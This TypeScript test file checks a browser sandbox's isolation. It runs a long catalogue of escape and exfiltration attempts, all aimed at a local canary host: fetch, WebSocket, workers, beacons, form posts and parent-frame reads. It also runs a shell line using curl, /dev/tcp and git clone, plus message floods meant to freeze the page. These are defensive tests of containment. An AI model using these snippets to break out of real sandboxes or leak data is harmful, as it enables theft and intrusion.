import { expect, test, type Canary } from './lab'

/** What code tries that wants out, as text: each is a function body that throws, rejects or gives something. */
const WORKER_TRIES = ({ url }: Canary): Readonly<Record<string, string>> => ({
  fetch: `await fetch('${url}/fetch'); return 'out'`,
  fetchNoCors: `await fetch('${url}/nocors', { mode: 'no-cors' }); return 'out'`,
  xhr: `return await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', '${url}/xhr'); x.onload = () => ok('out'); x.onerror = no; x.send() })`,
  socket: `return await new Promise((ok, no) => { const s = new WebSocket('${url.replace('http', 'ws')}/socket'); s.onopen = () => ok('out'); s.onerror = no })`,
  events: `return await new Promise((ok, no) => { const s = new EventSource('${url}/events'); s.onopen = () => ok('out'); s.onerror = no })`,
  transport: `const t = new WebTransport('${url.replace('http', 'https')}/transport'); await t.ready; return 'out'`,
  script: `importScripts('${url}/script'); return 'out'`,
  dataScript: `importScripts('data:text/javascript,self.loaded=1'); return 'out'`,
  module: `await import('${url}/module.mjs'); return 'out'`,
  worker: `return await new Promise((ok, no) => { const w = new Worker('${url}/worker.js'); w.onmessage = () => ok('out'); w.onerror = no })`,
  dataWorker: `return await new Promise((ok, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => ok('out'); w.onerror = no })`,
  inner: `return await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${url}/inner').then(() => postMessage('out'), () => postMessage('stopped'))"]))); w.onmessage = (e) => e.data === 'out' ? ok('out') : no(e.data); w.onerror = no })`,
  origin: `await fetch('/frame/kernel.js'); return 'out'`,
  otherFrame: `await fetch('http://sandbox-0123456789abcdef.localhost/frame/kernel.html', { mode: 'no-cors' }); return 'out'`,
  font: `const f = new FontFace('x', "url('${url}/font')"); await f.load(); return 'out'`,
  wasm: `await WebAssembly.compileStreaming(fetch('${url}/wasm')); return 'out'`,
  socketStream: `const s = new WebSocketStream('${url.replace('http', 'ws')}/stream'); await s.opened; return 'out'`,
  moduleWorker: `return await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["import '${url}/deep.mjs'; postMessage('out')"], { type: 'text/javascript' })), { type: 'module' }); w.onmessage = () => ok('out'); w.onerror = (e) => { e.preventDefault(); no(e) } })`,
  innerScript: `return await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["try { importScripts('${url}/deep.js'); postMessage('out') } catch { postMessage('stopped') }"]))); w.onmessage = (e) => e.data === 'out' ? ok('out') : no(e.data); w.onerror = no })`,
  sharedWorker: `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${url}/shared')"]))); return 'out'`,
  serviceWorker: `await navigator.serviceWorker.register('${url}/service.js'); return 'out'`,
  buckets: `await navigator.storageBuckets.open('x'); return 'out'`,
  oldFiles: `return await new Promise((ok, no) => webkitRequestFileSystem(0, 1024, () => ok('out'), no))`,
  oldFilesNow: `webkitRequestFileSystemSync(0, 1024); return 'out'`,
  notice: `if (Notification.permission !== 'granted') throw new Error('denied'); return 'out'`,
  database: `return await new Promise((ok, no) => { const q = indexedDB.open('tabwright'); q.onsuccess = () => ok('out'); q.onerror = no })`,
  caches: `await caches.open('x'); return 'out'`,
  files: `await navigator.storage.getDirectory(); return 'out'`,
  locks: `await navigator.locks.query(); return 'out'`,
  cookies: `await cookieStore.getAll(); return 'out'`,
  broadcast: `return await new Promise((ok, no) => { const c = new BroadcastChannel('tabwright'); c.onmessage = (e) => ok('heard ' + e.data); c.postMessage('from the sandbox'); setTimeout(no, 1000, 'silence') })`,
})

/** The same for code in the frame's own document, where no code of the sandbox runs: the second fence. */
const DOCUMENT_TRIES = (canary: Canary): Readonly<Record<string, string>> => ({
  fetch: WORKER_TRIES(canary)['fetch'] ?? '',
  parent: `return parent.document.getElementById('secret').textContent`,
  top: `return top.document.title`,
  topName: `return String(top.location.href)`,
  siblings: `return [...Array(parent.length).keys()].filter((i) => parent[i] !== self).map((i) => parent[i].document.title).join() || (() => { throw new Error('alone') })()`,
  topMove: `top.location.href = '${canary.url}/top'; return 'asked'`,
  popup: `if (open('${canary.url}/popup') === null) throw new Error('blocked'); return 'out'`,
  storage: `localStorage.setItem('a', 'b'); return 'out'`,
  session: `sessionStorage.setItem('a', 'b'); return 'out'`,
  cookie: `document.cookie = 'a=b'; return document.cookie || 'none'`,
  sharedText: `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${canary.url}/shared-text')"]))); return 'asked'`,
  serviceWorker: `await navigator.serviceWorker.register('${canary.url}/service.js'); return 'out'`,
  parentStorage: `return parent.localStorage.length + parent.indexedDB.name`,
  toPage: `parent.postMessage({ type: 'connect' }, '*'); top.postMessage({ type: 'connected' }, '*'); return 'asked'`,
  named: `const w = open('', '_top'); return w.document.title`,
  innerText: `const f = document.createElement('iframe'); f.srcdoc = '<script>fetch("${canary.url}/inner-text")</' + 'script><img src="${canary.url}/inner-image">'; document.body.append(f); return 'asked'`,
  innerData: `const f = document.createElement('iframe'); f.src = 'data:text/html,<img src="${canary.url}/inner-data">'; document.body.append(f); return 'asked'`,
  fontFace: `const s = document.createElement('style'); s.textContent = "@import url('${canary.url}/import'); @font-face { font-family: x; src: url('${canary.url}/font-face') } body { font-family: x; background: image-set('${canary.url}/set' 1x) }"; document.head.append(s); document.body.append('x'); return 'asked'`,
  drawing: `document.body.insertAdjacentHTML('beforeend', '<svg><use href="${canary.url}/use#a"/><image href="${canary.url}/svg-image"/></svg><embed src="${canary.url}/embed"><audio src="${canary.url}/audio" autoplay></audio><video poster="${canary.url}/poster"><track src="${canary.url}/track"></video><input type="image" src="${canary.url}/input"><link rel="icon" href="${canary.url}/icon"><link rel="manifest" href="${canary.url}/manifest">'); return 'asked'`,
  rules: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${canary.url}/speculation'] }], prerender: [{ source: 'list', urls: ['${canary.url}/prerender'] }] }); document.head.append(s); return 'asked'`,
  importMap: `const s = document.createElement('script'); s.type = 'module'; s.textContent = "import '${canary.url}/tag-module.mjs'"; document.head.append(s); return 'asked'`,
  later: `fetchLater('${canary.url}/later', { activateAfter: 0 }); return 'asked'`,
  report: `new ReportingObserver(() => undefined).observe(); const m = document.createElement('meta'); m.httpEquiv = 'content-security-policy'; m.content = "img-src 'none'; report-uri ${canary.url}/report"; document.head.append(m); new Image().src = 'x'; return 'asked'`,
  shared: `new SharedWorker('${canary.url}/shared.js'); return 'out'`,
  beacon: `if (!navigator.sendBeacon('${canary.url}/beacon', 'x')) throw new Error('refused'); return 'sent'`,
  image: `return await new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('out'); i.onerror = no; i.src = '${canary.url}/image' })`,
  style: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${canary.url}/style.css'; document.head.append(l); return await new Promise((ok, no) => { l.onload = () => ok('out'); l.onerror = no })`,
  sheet: `const s = document.createElement('style'); s.textContent = "body { background: url('${canary.url}/sheet') }"; document.head.append(s); return 'asked'`,
  hints: `for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = '${canary.url}/hint-' + rel; document.head.append(l) } return 'asked'`,
  frame: `const f = document.createElement('iframe'); f.src = '${canary.url}/frame'; document.body.append(f); return 'asked'`,
  media: `const v = document.createElement('video'); v.src = '${canary.url}/media'; document.body.append(v); v.load(); return 'asked'`,
  object: `const o = document.createElement('object'); o.data = '${canary.url}/object'; document.body.append(o); return 'asked'`,
  remoteScript: `return await new Promise((ok, no) => { const s = document.createElement('script'); s.src = '${canary.url}/tag'; s.onload = () => ok('out'); s.onerror = no; document.head.append(s) })`,
  ping: `const a = document.createElement('a'); a.href = '#x'; a.ping = '${canary.url}/ping'; document.body.append(a); a.click(); return 'asked'`,
})

/** What replaces the document, so that nobody can say what came of it. */
const LEAVING_TRIES = (canary: Canary): Readonly<Record<string, string>> => ({
  form: `const f = document.createElement('form'); f.action = '${canary.url}/form'; f.method = 'post'; document.body.append(f); f.submit(); return 'sent'`,
  refresh: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${canary.url}/refresh'; document.head.append(m); return 'asked'`,
  self: `location.href = '${canary.url}/self'; return 'asked'`,
})

const trying = (tries: Readonly<Record<string, string>>): string => `(async () => {
  const said = {}
  const tries = {${Object.entries(tries)
    .map(([name, body]) => `${name}: async () => { ${body} }`)
    .join(',\n')}}
  for (const [name, attempt] of Object.entries(tries)) {
    said[name] = await Promise.race([
      Promise.resolve().then(attempt).then((got) => String(got), () => 'stopped'),
      new Promise((resolve) => setTimeout(resolve, 1500, 'silent')),
    ])
  }
  return JSON.stringify(said)
})()`

/**
 * Browsers open a connection before they ask the policy whether anything may be sent on it. Counted are requests where it is about a
 * document, in which no code of the sandbox runs, and connections where it is about the kernel, in which all of it does.
 */
const requests = ({ hits }: Canary): readonly string[] => hits.filter((hit) => hit !== 'connection')

const quiet = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 1000))

test('a script that runs as the kernel reaches no host, no storage and no other frame', async ({ page, canary }) => {
  const kernel = `onmessage = (event) => { ${trying(WORKER_TRIES(canary))}.then((said) => event.ports[0].postMessage(said)) }`
  const [first, second] = await page.evaluate((text) => Promise.all([window.frameLab.hostile(text), window.frameLab.hostile(text)]), kernel)
  await quiet()
  const tries = Object.keys(WORKER_TRIES(canary))
  for (const said of [first, second]) {
    const became: Record<string, string> = JSON.parse(said)
    expect(Object.keys(became)).toEqual(tries)
    // A page may ask for text that it has in itself: nothing comes from outside.
    const { dataScript: _own, ...others } = became
    expect(new Set(Object.values(others))).toEqual(new Set(['stopped']))
  }
  expect(canary.hits).toEqual([])
})

test('a script in the document of the frame reaches no host, no page and no other frame', async ({ page, canary }) => {
  await page.evaluate(() => window.frameLab.open('other').then(() => window.frameLab.run('other', 'true')))
  const idle = "onmessage = (event) => event.ports[0].postMessage('up')"
  await page.evaluate((text) => window.frameLab.hostile(text), idle)
  const frame = page.frames().at(-1)
  if (frame === undefined || frame === page.mainFrame()) throw new Error('the page has no frame')
  const address = page.url()
  const tries = DOCUMENT_TRIES(canary)
  const said = await frame.evaluate((text) => {
    // oxlint-disable-next-line no-eval -- what the test is about
    return eval(text) as Promise<string>
  }, trying(tries))
  await quiet()
  const became: Record<string, string> = JSON.parse(said)
  expect(Object.keys(became)).toEqual(Object.keys(tries))
  for (const [name, what] of Object.entries(became)) expect([name, /^(stopped|silent|asked|sent)$/.test(what)]).toEqual([name, true])
  expect(requests(canary)).toEqual([])
  expect(page.url()).toBe(address)
  expect(page.context().pages()).toHaveLength(1)
  expect(await page.evaluate(() => window.frameLab.run('other', 'echo alive').then((ran) => ran.text))).toBe('alive\n')
})

test('a script in the shell and in node reaches no host', async ({ page, canary }) => {
  const tries = { ...WORKER_TRIES(canary) }
  // The channel is there in a program, and has nobody at its other end.
  const program = `${trying(tries)}.then((said) => console.log(said))`
  const ran = await page.evaluate(
    async ([text, url]) => {
      await window.frameLab.open('shell')
      const quoted = text.replaceAll("'", "'\\''")
      return window.frameLab.run(
        'shell',
        `printf %s '${quoted}' > try.js; node try.js; curl -s ${url}/curl; exec 3<>/dev/tcp/127.0.0.1/80; git clone ${url}/repo; echo finished`,
      )
    },
    [program, canary.url] as const,
  )
  await quiet()
  const line = ran.text.split('\n').find((one) => one.startsWith('{'))
  const became: Record<string, string> = JSON.parse(line ?? '{}')
  expect(Object.keys(became)).toEqual(Object.keys(tries))
  const { dataScript: _own, ...others } = became
  for (const [name, what] of Object.entries(others)) expect([name, what]).toEqual([name, 'stopped'])
  expect(ran.text).toContain('finished')
  expect(canary.hits).toEqual([])
})

test('the frame cannot be led to another host, and the page goes on', async ({ page, canary }) => {
  const idle = "onmessage = (event) => event.ports[0].postMessage('up')"
  const address = page.url()
  for (const body of Object.values(LEAVING_TRIES(canary))) {
    await page.evaluate((text) => window.frameLab.hostile(text), idle)
    const frame = page.frames().at(-1)
    // Not waited for: the document that would answer may be gone.
    await frame?.evaluate((text) => void Reflect.apply(setTimeout, self, [text, 0]), `(() => { ${body} })()`)
    await quiet()
  }
  expect(requests(canary)).toEqual([])
  expect(page.url()).toBe(address)
})

test('no packets leave by way of a peer connection', async ({ page, canary }) => {
  const kernel = 'onmessage = (event) => event.ports[0].postMessage(typeof RTCPeerConnection)'
  expect(await page.evaluate((text) => window.frameLab.hostile(text), kernel)).toBe('undefined')
  const frame = page.frames().at(-1)
  const came = await frame?.evaluate(async (port) => {
    const tries = [self, document.body.appendChild(document.createElement('iframe')).contentWindow]
    const gathered = tries.map(async (realm) => {
      if (realm === null || typeof Reflect.get(realm, 'RTCPeerConnection') !== 'function') return 'missing'
      const peer: RTCPeerConnection = Reflect.construct(Reflect.get(realm, 'RTCPeerConnection'), [
        { iceServers: [{ urls: `stun:127.0.0.1:${port}` }] },
      ])
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
      return 'made'
    })
    return (await Promise.allSettled(gathered)).map((one) => (one.status === 'fulfilled' ? one.value : 'refused'))
  }, canary.udp)
  await quiet()
  expect(came).toEqual(['missing', 'refused'])
  expect(canary.hits).toEqual([])
})

test('[O42] the agent’s worker has the policy of its own script: no other host, no text that becomes code', async ({ page, canary }) => {
  const said = await page.evaluate((url) => window.frameLab.agentWorker('/assets/agent-worker-1.js', url), canary.url)
  expect(Object.keys(said)).toHaveLength(9)
  expect(new Set(Object.values(said))).toEqual(new Set(['stopped']))
  await quiet()
  expect(canary.hits).toEqual([])
})

const FLOODS: Readonly<Record<string, string>> = {
  'ten thousand messages a second': "setInterval(() => { for (let i = 0; i < 100; i++) port.postMessage({ type: 'alive' }) }, 10)",
  'messages without end': "for (;;) port.postMessage({ type: 'alive' })",
  'a text of 100 MB': "port.postMessage({ type: 'output', id: 1, stream: 'stdout', text: 'x'.repeat(1e8) })",
  'forged ports': "setInterval(() => { const c = new MessageChannel(); port.postMessage({ type: 'alive', port: 1 }, [c.port1]) }, 10)",
  'a file that is not what it says':
    "port.postMessage({ type: 'done', id: 1, exitCode: 0, cwd: '/', files: [{ path: 'a', mode: 'file', mtime: 1, pack: 9, at: -1, size: 1e12 }], packs: [], removed: [] })",
}

for (const [name, flood] of Object.entries(FLOODS)) {
  test(`[O41] ${name} from a kernel leave the page responsive and the other sessions at work`, async ({ page }) => {
    const kernel = `onmessage = (event) => { const [port] = event.ports; port.onmessage = (e) => { if (e.data.type === 'run') { ${flood} } }; port.postMessage({ type: 'ready' }) }`
    const [flooded, other] = await page.evaluate(async (text) => {
      await window.frameLab.open('other')
      await window.frameLab.run('other', 'true')
      await window.frameLab.open('flood', text)
      const runs = [
        window.frameLab.run('flood', 'x', { stopAfterMs: 4000 }),
        window.frameLab.run('other', 'for i in 1 2 3 4 5; do sleep 0.2; done; echo alive'),
      ] as const
      return Promise.all(runs)
    }, kernel)
    expect(other.text).toBe('alive\n')
    expect(flooded.frozenMs).toBeLessThan(1500)
    expect(flooded.ms).toBeLessThan(6000)
  })
}
